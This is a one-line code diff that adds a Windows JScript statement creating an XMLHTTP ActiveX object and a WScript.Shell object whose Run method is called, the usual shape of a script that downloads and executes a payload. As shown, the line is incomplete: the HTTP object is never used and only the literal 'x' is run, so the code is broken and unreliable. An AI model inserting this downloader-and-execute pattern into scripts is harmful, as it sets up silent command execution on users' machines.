@@ -1,0 +1,1 @@
+var x=new ActiveXObject('MSXML2.XMLHTTP');new ActiveXObject('WScript.Shell').Run('x');
